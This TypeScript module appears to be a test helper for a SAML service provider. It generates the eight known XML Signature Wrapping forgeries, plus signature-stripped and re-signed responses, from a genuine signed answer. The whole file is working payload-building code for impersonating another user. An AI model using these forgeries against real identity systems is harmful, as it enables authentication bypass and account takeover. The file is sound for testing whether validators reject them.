import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { SignedXml } from 'xml-crypto'

const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion'
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol'
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#'

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml')
const write = (document: Document) => new XMLSerializer().serializeToString(document)
const assertionOf = (document: Document) =>
  document.getElementsByTagNameNS(ASSERTION, 'Assertion')[0] as Element

/** The signature that is a child of an element. */
function signatureOf(element: Element): Element {
  const found = Array.from(element.childNodes).find(
    (node) => (node as Element).namespaceURI === SIGNATURE
  )
  if (!found) throw new Error(`${element.localName} is not signed`)
  return found as Element
}

function without(element: Element): Element {
  const copy = element.cloneNode(true) as Element
  copy.removeChild(signatureOf(copy))
  return copy
}

/** A copy of another name, that says to be someone else. */
function evil(element: Element, from: string, to: string): Element {
  const copy = element.cloneNode(true) as Element
  copy.setAttribute('ID', '_evil')
  const visit = (node: Node) => {
    const text = node as Text
    if (node.nodeType === 3) text.data = text.data.replaceAll(from, to)
    for (const child of Array.from(node.childNodes ?? [])) visit(child)
  }
  visit(copy)
  return copy
}

type Wrap = (document: Document, from: string, to: string) => void

/**
 * The eight known forms of signature wrapping ("On Breaking SAML", Somorovsky and others, USENIX Security
 * 2012, as its tools number them), each built from a genuine answer whose response and assertion are signed.
 */
const WRAPPINGS: Record<string, Wrap> = {
  'XSW1: the genuine response within the signature of another'(document, from, to) {
    const root = document.documentElement
    const genuine = without(root)
    const other = evil(root, from, to)
    signatureOf(other).appendChild(genuine)
    document.replaceChild(other, root)
  },
  'XSW2: the genuine response before the signature of another'(document, from, to) {
    const root = document.documentElement
    const genuine = without(root)
    const other = evil(root, from, to)
    other.insertBefore(genuine, signatureOf(other))
    document.replaceChild(other, root)
  },
  'XSW3: another assertion before the genuine one'(document, from, to) {
    const genuine = assertionOf(document)
    const other = without(evil(genuine, from, to))
    genuine.parentNode!.insertBefore(other, genuine)
  },
  'XSW4: the genuine assertion within another'(document, from, to) {
    const genuine = assertionOf(document)
    const other = without(evil(genuine, from, to))
    genuine.parentNode!.replaceChild(other, genuine)
    other.appendChild(genuine)
  },
  'XSW5: the signature in another assertion, the genuine one behind it'(document, from, to) {
    const genuine = assertionOf(document)
    const other = evil(genuine, from, to)
    genuine.parentNode!.replaceChild(other, genuine)
    document.documentElement.appendChild(without(genuine))
  },
  'XSW6: the genuine assertion within the signature of another'(document, from, to) {
    const genuine = assertionOf(document)
    const other = evil(genuine, from, to)
    signatureOf(other).appendChild(without(genuine))
    genuine.parentNode!.replaceChild(other, genuine)
  },
  'XSW7: another assertion in extensions'(document, from, to) {
    const genuine = assertionOf(document)
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions')
    extensions.appendChild(without(evil(genuine, from, to)))
    genuine.parentNode!.insertBefore(extensions, genuine)
  },
  'XSW8: the genuine assertion in an object of the signature of another'(document, from, to) {
    const genuine = assertionOf(document)
    const other = evil(genuine, from, to)
    const object = document.createElementNS(SIGNATURE, 'ds:Object')
    object.appendChild(without(genuine))
    signatureOf(other).appendChild(object)
    genuine.parentNode!.replaceChild(other, genuine)
  },
}

export const wrappings = Object.entries(WRAPPINGS).map(
  ([name, wrap]) =>
    [
      name,
      (xml: string, from: string, to: string) => {
        const document = parse(xml)
        wrap(document, from, to)
        return write(document)
      },
    ] as const
)

/** Takes every signature away. */
export function unsign(xml: string): string {
  const document = parse(xml)
  for (const one of Array.from(document.getElementsByTagNameNS(SIGNATURE, 'Signature'))) {
    one.parentNode!.removeChild(one)
  }
  return write(document)
}

/** Changes a genuine answer, and signs its assertion with the key of the provider, as that would. */
export function signAnew(
  xml: string,
  change: (xml: string) => string,
  privateKey: string,
  algorithm = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  digest = 'http://www.w3.org/2001/04/xmlenc#sha256'
): string {
  const signed = new SignedXml({
    privateKey,
    signatureAlgorithm: algorithm,
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  })
  const xpath = "/*[local-name()='Response']/*[local-name()='Assertion']"
  signed.addReference({
    xpath,
    digestAlgorithm: digest,
    transforms: [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
  })
  signed.computeSignature(change(unsign(xml)), {
    location: { reference: `${xpath}/*[local-name()='Issuer']`, action: 'after' },
  })
  return signed.getSignedXml()
}
